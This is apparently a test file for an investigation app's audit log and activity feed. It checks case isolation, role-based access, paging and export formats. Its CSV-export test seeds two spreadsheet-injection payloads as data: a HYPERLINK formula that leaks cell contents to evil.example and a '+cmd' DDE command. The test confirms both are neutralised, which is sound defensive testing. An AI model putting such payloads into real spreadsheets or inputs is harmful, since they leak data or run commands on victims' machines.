// What the audit views and the activity feed show, on a real PostgreSQL: a case's feed never shows
// another case's entries, the activity API answers 404 to a non-member (the real caseRoute guard and
// membership check; only Auth.js's session is a fixed user id), the case audit is for leads only, the
// admin log for admins only, filters and keyset pages are exact, and the CSV export neutralises formulas.
import { randomUUID } from "node:crypto";
import { describe, expect, it, vi } from "vitest";
import { GET as activityGET } from "@/app/api/v1/cases/[caseId]/activity/route";
import { exportAuditLog, exportCaseAuditLog } from "@/lib/audit/export-audit-log";
import { listAuditLog } from "@/lib/audit/list-audit-log";
import { ACTIVITY_ACTIONS } from "@/lib/audit/activity-actions";
import { ACTIVITY_PAGE_SIZE, listCaseActivity } from "@/lib/audit/list-case-activity";
import { auditEntriesSql } from "@/lib/audit/query-audit-entries";
import { listCaseAuditLog } from "@/lib/audit/list-case-audit-log";
import { recordAudit } from "@/lib/audit/record-audit";
import { recordSearch } from "@/lib/audit/record-search";
import { resolveCaseScope } from "@/lib/auth/case-scope";
import { getPool } from "@/lib/db/client";
import { addMember, seedCase, seedUser } from "@/lib/testing/factories";

const session = vi.hoisted(() => ({ userId: null as string | null }));
vi.mock("@/lib/auth/auth-options", () => ({
  handlers: {},
  auth: vi.fn(async () => (session.userId ? { user: { id: session.userId } } : null)),
  signIn: vi.fn(),
  signOut: vi.fn(),
}));

async function twoCases() {
  const lead = await seedUser({ name: "Lena Lead" });
  const investigator = await seedUser({ name: "Ivan Investigator" });
  const viewer = await seedUser({ name: "Vera Viewer" });
  const stranger = await seedUser({ name: "Sam Stranger" });
  const a = await seedCase(lead, { name: "Case A" });
  const b = await seedCase(stranger, { name: "Case B" });
  await addMember(a.id, investigator, "investigator");
  await addMember(a.id, viewer, "viewer");
  return { lead, investigator, viewer, stranger, a: a.id, b: b.id };
}

async function callActivity(userId: string | null, caseId: string, query = "") {
  session.userId = userId;
  const res = await activityGET(new Request(`http://127.0.0.1:3000/api/v1/cases/${caseId}/activity${query}`), { params: Promise.resolve({ caseId }) });
  return { status: res.status, body: (await res.json()) as Record<string, unknown> };
}

/** RFC 4180 rows (quoted fields, doubled quotes, CRLF), enough to read our own export back. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += ch;
  }
  return rows;
}

async function readAll(stream: ReadableStream<Uint8Array>): Promise<string> {
  return new Response(stream).text();
}

describe("the case activity feed", () => {
  it("lists the case's team actions, newest first, never another case's, nor reads", async () => {
    const t = await twoCases();
    const a = await resolveCaseScope(t.investigator.id, t.a, "bookmarks:write");
    await recordAudit({ action: "bookmark.create", actorId: t.investigator.id, caseId: t.a, targetType: "bookmark", targetId: "b1", detail: { title: "Root login" } });
    await recordAudit({ action: "case.access", actorId: t.lead.id, caseId: t.a, targetType: "case", targetId: t.a });
    await recordSearch(a, { query: "eventName:X", resultCount: 1, exact: true, via: "web" });
    await recordAudit({ action: "tag.add", actorId: t.investigator.id, caseId: t.a, targetType: "event", targetId: "evt 1", detail: { tag: "malicious" } });
    await recordAudit({ action: "bookmark.create", actorId: t.stranger.id, caseId: t.b, targetType: "bookmark", targetId: "b2", detail: { title: "Case B secret" } });
    await recordAudit({ action: "ingest.finish", actorId: null, actorLabel: "worker", caseId: t.a, targetType: "ingest-run", targetId: "r1", detail: { state: "succeeded", inserted: 1200 } });

    const viewerScope = await resolveCaseScope(t.viewer.id, t.a, "case:read");
    const feed = await listCaseActivity(viewerScope);
    expect(feed.items.map(({ actor, text, href, action }) => ({ actor, text, href, action }))).toEqual([
      { actor: "worker", text: "finished an ingest run: succeeded, 1,200 new events", href: null, action: "ingest.finish" },
      { actor: "Ivan Investigator", text: "tagged an event “malicious”", href: null, action: "tag.add" },
      { actor: "Ivan Investigator", text: "bookmarked “Root login”", href: `/cases/${t.a}/bookmarks`, action: "bookmark.create" },
      { actor: "Lena Lead", text: "created the case", href: `/cases/${t.a}`, action: "case.create" },
    ]);
    // An investigator may open the event: the link appears for them (the viewer's feed has none).
    const inv = await listCaseActivity(await resolveCaseScope(t.investigator.id, t.a, "case:read"));
    expect(inv.items[1]!.href).toBe(`/cases/${t.a}/events/evt%201`);
    // Polling: only what is newer than the newest seen.
    await recordAudit({ action: "note.create", actorId: t.lead.id, caseId: t.a, targetType: "note", targetId: "n1", detail: { eventId: null, length: 3 } });
    await recordAudit({ action: "bookmark.create", actorId: t.stranger.id, caseId: t.b, targetType: "bookmark", targetId: "b3", detail: {} });
    const since = await listCaseActivity(viewerScope, { after: feed.latestId });
    expect(since.items.map((i) => [i.actor, i.text])).toEqual([["Lena Lead", "wrote a note on the case"]]);
    expect(since.latestId).toBe(since.items[0]!.id);
    expect((await listCaseActivity(viewerScope, { after: since.latestId })).items).toEqual([]);
    // Keyset pages.
    const first = await listCaseActivity(viewerScope, { limit: 2 });
    const second = await listCaseActivity(viewerScope, { limit: 2, before: first.older });
    expect([...first.items, ...second.items].map((i) => i.action)).toEqual(["note.create", "ingest.finish", "tag.add", "bookmark.create"]);
    expect(second.older).toBe(second.items[1]!.id);
  });

  it("reads a page through the index of the team's work, however many page views and searches the case has", async () => {
    const t = await twoCases();
    await recordAudit({ action: "bookmark.create", actorId: t.lead.id, caseId: t.a, targetType: "bookmark", targetId: "b1", detail: {} });
    // 3,000 reads after the one change: what a busy day of page views and searches writes.
    await getPool().query(
      `INSERT INTO audit_log (actor_id, action, case_id, target_type, target_id)
       SELECT $1::uuid, CASE WHEN i % 3 = 0 THEN 'search.run' ELSE 'case.access' END, $2::uuid, 'case', $2 FROM generate_series(1, 3000) i`,
      [t.lead.id, t.a],
    );
    await recordAudit({ action: "note.create", actorId: t.lead.id, caseId: t.a, targetType: "note", targetId: "n1", detail: {} });
    await getPool().query("ANALYZE audit_log");
    const feed = await listCaseActivity(await resolveCaseScope(t.viewer.id, t.a, "case:read"));
    expect(feed.items.map((i) => i.action)).toEqual(["note.create", "bookmark.create", "case.create"]);

    const { text, values } = auditEntriesSql(t.a, {}, { limit: ACTIVITY_PAGE_SIZE + 1, actions: ACTIVITY_ACTIONS });
    type PlanNode = { "Relation Name"?: string; "Index Name"?: string; "Actual Rows"?: number; "Rows Removed by Filter"?: number; Plans?: PlanNode[] };
    const [explained] = (await getPool().query<{ "QUERY PLAN": [{ Plan: PlanNode }] }>(`EXPLAIN (ANALYZE, FORMAT JSON) ${text}`, values)).rows[0]!["QUERY PLAN"];
    const nodes = (n: PlanNode): PlanNode[] => [n, ...(n.Plans ?? []).flatMap(nodes)];
    const all = nodes(explained.Plan);
    // Through the work index (an index scan, or a bitmap built from it: the planner's choice with other
    // tests' rows about), reading the three work entries and walking past none of the 3,000 reads.
    expect(all.filter((n) => n["Index Name"]?.startsWith("audit_log")).map((n) => n["Index Name"])).toEqual(["audit_log_case_work_idx"]);
    expect(all.find((n) => n["Relation Name"] === "audit_log")).toMatchObject({ "Actual Rows": 3, "Rows Removed by Filter": 0 });
  });

  it("serves the feed over GET /api/v1/cases/{caseId}/activity to members, 404 to anyone else", async () => {
    const t = await twoCases();
    await recordAudit({ action: "detections.run", actorId: t.lead.id, caseId: t.a, targetType: "case", targetId: t.a, detail: { full: true } });
    const ok = await callActivity(t.viewer.id, t.a);
    expect(ok.status).toBe(200);
    expect((ok.body.items as { text: string }[]).map((i) => i.text)).toEqual(["re-ran the detections", "created the case"]);
    const after = await callActivity(t.viewer.id, t.a, `?after=${String(ok.body.latestId)}`);
    expect(after).toEqual({ status: 200, body: { items: [], latestId: ok.body.latestId, older: null } });
    const foreign = await callActivity(t.stranger.id, t.a);
    expect(foreign).toEqual({ status: 404, body: { error: { code: "NOT_FOUND", message: "Not found." } } });
    expect((await callActivity(t.stranger.id, randomUUID())).status).toBe(404);
    expect((await callActivity(null, t.a)).status).toBe(401);
    expect((await callActivity(t.viewer.id, t.a, "?after=abc")).status).toBe(400);
  });
});

describe("the audit views", () => {
  it("shows a case's audit to its lead only (NOT_FOUND for an investigator), filtered and paged exactly", async () => {
    const t = await twoCases();
    const leadScope = await resolveCaseScope(t.lead.id, t.a, "audit:read");
    const invScope = await resolveCaseScope(t.investigator.id, t.a, "case:read");
    await expect(listCaseAuditLog(invScope, {})).rejects.toMatchObject({ code: "NOT_FOUND" });
    await expect(exportCaseAuditLog(invScope, {}, "csv")).rejects.toMatchObject({ code: "NOT_FOUND" });
    await expect(resolveCaseScope(t.investigator.id, t.a, "audit:read")).rejects.toMatchObject({ code: "NOT_FOUND" });
    for (let i = 0; i < 3; i++) await recordAudit({ action: "case.access", actorId: t.investigator.id, caseId: t.a, targetType: "case", targetId: t.a });
    await recordAudit({ action: "case.access", actorId: t.stranger.id, caseId: t.b, targetType: "case", targetId: t.b });
    const all = await listCaseAuditLog(leadScope, {});
    expect(all.entries.map((e) => [e.action, e.actorName])).toEqual([
      ["case.access", "Ivan Investigator"],
      ["case.access", "Ivan Investigator"],
      ["case.access", "Ivan Investigator"],
      ["case.create", "Lena Lead"],
    ]);
    expect(all.older).toBeNull();
    // A caseId filter cannot widen a lead's view to another case.
    expect((await listCaseAuditLog(leadScope, { caseId: t.b })).entries).toHaveLength(4);
    expect((await listCaseAuditLog(leadScope, { action: "case.create" })).entries.map((e) => e.actorId)).toEqual([t.lead.id]);
    expect((await listCaseAuditLog(leadScope, { actor: "lena" })).entries.map((e) => e.action)).toEqual(["case.create"]);
    expect((await listCaseAuditLog(leadScope, { actor: t.investigator.id })).entries).toHaveLength(3);
    const page1 = await listCaseAuditLog(leadScope, {}, 3);
    const page2 = await listCaseAuditLog(leadScope, { before: page1.older }, 3);
    expect([page1.entries.length, page2.entries.map((e) => e.action), page2.older]).toEqual([3, ["case.create"], null]);
    expect((await listCaseAuditLog(leadScope, { from: "2000-01-01", to: "2000-12-31" })).entries).toEqual([]);
    const today = new Date().toISOString().slice(0, 10);
    expect((await listCaseAuditLog(leadScope, { from: today, to: today })).entries).toHaveLength(4);
    await expect(listCaseAuditLog(leadScope, { from: "yesterday" })).rejects.toMatchObject({ code: "INVALID_INPUT" });
    await expect(listCaseAuditLog(leadScope, { action: "case.delete" })).rejects.toMatchObject({ code: "INVALID_INPUT" });
  });

  it("shows the whole log to active admins only", async () => {
    const t = await twoCases();
    const admin = await seedUser({ role: "admin" });
    await expect(listAuditLog(t.lead, {})).rejects.toMatchObject({ code: "NOT_FOUND" });
    await expect(exportAuditLog(t.lead, {}, "jsonl")).rejects.toMatchObject({ code: "NOT_FOUND" });
    const both = await listAuditLog(admin, { action: "case.create", actor: t.stranger.id });
    expect(both.entries.map((e) => [e.caseName, e.caseId, e.actorName])).toEqual([["Case B", t.b, "Sam Stranger"]]);
    expect((await listAuditLog(admin, { actor: t.stranger.email.toUpperCase() })).entries.map((e) => e.caseId)).toEqual([t.b]);
    expect((await listAuditLog(admin, { caseId: t.a })).entries.map((e) => e.action)).toEqual(["case.create"]);
  });

  it("exports CSV with formula cells neutralised and JSON Lines with the chain fields", async () => {
    const t = await twoCases();
    const leadScope = await resolveCaseScope(t.lead.id, t.a, "audit:read");
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    await recordSearch(leadScope, { query: evil, resultCount: 0, exact: true, via: "web" });
    await recordAudit({ action: "auth.sign-in-failed", actorId: null, actorLabel: evil, caseId: t.a, userAgent: "+cmd|' /C calc'!A0", ip: "-1" });
    const csv = await readAll((await exportCaseAuditLog(leadScope, { action: "search.run" }, "csv")).body);
    const lines = csv.split("\r\n");
    expect(lines[0]).toBe("id,at,actorId,actorEmail,actorName,actorLabel,action,caseId,caseName,targetType,targetId,detail,ip,userAgent,prevHash,hash");
    expect(lines).toHaveLength(3); // header, one row, trailing empty
    // The filter text sits inside the detail cell, which starts with "{": inert in any spreadsheet.
    expect(parseCsv(csv)[1]![11]).toBe(`{"via": "web", "exact": true, "query": "${evil.replace(/"/g, '\\"')}", "resultCount": 0}`);
    const all = parseCsv(await readAll((await exportCaseAuditLog(leadScope, {}, "csv")).body));
    const failed = all.find((row) => row[6] === "auth.sign-in-failed")!;
    expect([failed[5], failed[12], failed[13]]).toEqual([`'${evil}`, "'-1", "'+cmd|' /C calc'!A0"]);
    expect(all.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    const jsonl = await readAll((await exportCaseAuditLog(leadScope, {}, "jsonl")).body);
    const entries = jsonl.trimEnd().split("\n").map((l) => JSON.parse(l) as Record<string, unknown>);
    // Each export is itself recorded (before its body is read, so it is in its own export).
    expect(entries.map((e) => e.action)).toEqual(["case.create", "search.run", "auth.sign-in-failed", "export.download", "export.download", "export.download"]);
    expect(entries.slice(3).map((e) => [e.actorId, e.targetType, e.detail])).toEqual([
      [t.lead.id, "audit-log", { format: "csv", filters: { action: "search.run" } }],
      [t.lead.id, "audit-log", { format: "csv", filters: {} }],
      [t.lead.id, "audit-log", { format: "jsonl", filters: {} }],
    ]);
    expect(Object.keys(entries[1]!)).toEqual(expect.arrayContaining(["prevHash", "hash", "detailText"]));
    expect(entries[1]!.detailText).toBe(`{"via": "web", "exact": true, "query": "${evil.replace(/"/g, '\\"')}", "resultCount": 0}`);
  });
});
